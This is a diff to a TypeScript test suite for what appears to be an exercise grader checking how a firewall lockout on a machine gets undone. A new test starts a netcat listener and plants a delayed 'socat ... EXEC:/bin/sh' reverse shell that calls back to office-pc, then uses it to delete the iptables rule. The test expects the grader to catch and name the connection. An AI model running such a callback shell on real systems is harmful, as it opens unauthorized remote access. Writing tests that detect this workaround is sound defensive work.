@@ -35,7 +35,8 @@ const ctx = (): SolveContext => {
 const a = () => addrs(ctx().view);
 const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 /** The journal as a check reads it: every lockout, oldest first. */
-const found = async (): Promise<Lockout[]> => (await lockouts(journal.readerFor(id, driver.deployment), a())).found;
+const found = async (): Promise<Lockout[]> =>
+  (await lockouts(journal.readerFor(id, driver.deployment), { ...a(), m1Others: [a().m1Office] })).found;
 const commandsOnMachine1 = async (): Promise<JournalCommand[]> =>
   (await journal.readerFor(id, driver.deployment).events('command')).filter((c) => c.machineId === 'machine1');
 /** A line typed into the ssh session on Machine 2; resolves when `done` shows after it. */
@@ -95,6 +96,22 @@ describe('a lockout undone by hand is not credited to a safeguard', () => {
     expect(verdict.passed).toBe(false);
     expect(verdict.message).toMatch(/not surely the session you already had open from Machine 2/);
     expect(verdict.message).toMatch(/--syn|--state NEW/);
+  }, 600_000);
+  it('restoring through a shell Machine 1 opened to office-pc during the cut fails, naming the connection', async () => {
+    const { pc } = a();
+    await driver.terminals.type('office-pc', 'nc -l -p 4444\r');
+    await pause(1_500);
+    await sshIn(ctx());
+    // Set up before the cut, as a timer would be: a shell that calls out to office-pc 12 s later.
+    await ctx().typeLine('machine2', `(sleep 12; socat TCP:${pc}:4444 EXEC:/bin/sh) >/dev/null 2>&1 & ${cutOutright}`);
+    await pause(20_000);
+    await driver.terminals.type('office-pc', `iptables -D ${CHAIN} 1\r`);
+    await sshOut(ctx());
+    await driver.terminals.type('office-pc', '\x03');
+    const verdict = await driver.check('safeguard');
+    expect(verdict.passed).toBe(false);
+    expect(verdict.message).toMatch(new RegExp(`Machine 1 connected to ${pc.replace(/\./g, '\\.')} port 4444`));
+    expect((await found()).at(-1)?.typed).toEqual([]);
   }, 600_000);
 });
 
